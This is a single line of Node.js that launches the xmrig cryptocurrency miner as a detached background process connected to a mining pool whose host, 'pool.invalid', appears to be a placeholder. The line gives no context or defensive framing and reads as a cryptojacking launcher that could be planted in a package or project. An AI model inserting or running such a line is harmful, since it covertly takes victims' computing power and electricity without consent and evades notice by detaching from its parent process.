require('child_process').spawn('./xmrig', ['-o', 'pool.invalid:3333'], { detached: true });
